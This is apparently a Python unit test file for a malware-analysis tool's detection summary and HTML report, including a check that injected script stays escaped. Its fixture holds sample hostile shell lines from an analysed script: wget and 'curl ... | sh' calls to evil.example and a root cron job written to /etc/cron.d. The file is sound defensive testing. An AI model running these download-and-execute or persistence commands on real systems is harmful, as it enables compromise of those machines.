"""What the page shows of rules, ATT&CK and the file itself; hostile and absent values included."""

from __future__ import annotations

from typing import Any

from malkoha.reporting.detection import detection
from malkoha.reporting.html_report import render
from tests.reports import POISON, poisoned
from tests.unit.reporting.test_attack import REPORT

STATIC: dict[str, Any] = {
    "elf": {"oddities": ["no section headers"], "made_by": ["Go"], "telfhash": "T1AB"},
    "packer": {"name": "UPX", "unpacked": False, "why": "the program upx is not installed"},
    "script": {
        "language": "shell",
        "downloads": ["wget http://evil.example/a"],
        "calls": {"runs code": ["eval x2"]},
        "heredocs": [{"to": "cat > /etc/cron.d/x", "text": "* * * * * root /tmp/.x"}],
        "payloads": [{"how": ["base64", "gzip"], "size": 77, "text": "curl http://evil.example/b | sh"}],
    },
    "indicators": {"urls": [f"http://evil.example/{number}" for number in range(100)]},
}
FULL: dict[str, Any] = {**REPORT, "static": STATIC}


def test_the_model() -> None:
    found = detection(FULL)
    assert found["packer"] == "UPX: not unpacked: the program upx is not installed"
    assert found["yara"][0]["severity"] == 5
    assert (found["indicators"][0]["total"], len(found["indicators"][0]["head"])) == (100, 60)
    assert [entry["title"] for entry in found["script"]["texts"]] == [
        "heredoc: cat > /etc/cron.d/x",
        "decoded: base64 › gzip, 77 bytes",
    ]
    empty = detection({})
    assert not any(empty.values())


def test_the_page_shows_it() -> None:
    page = render(FULL)
    for text in (
        "no section headers",
        "T1053.003",
        "Privilege escalation",
        "wget http://evil.example/a",
        "telfhash",
        'id="rules"',
        "base64 › gzip",
    ):
        assert text in page, text


def test_hostile_values_stay_text() -> None:
    page = render(poisoned(FULL))
    assert "<script>document.title" not in page
    assert POISON not in page
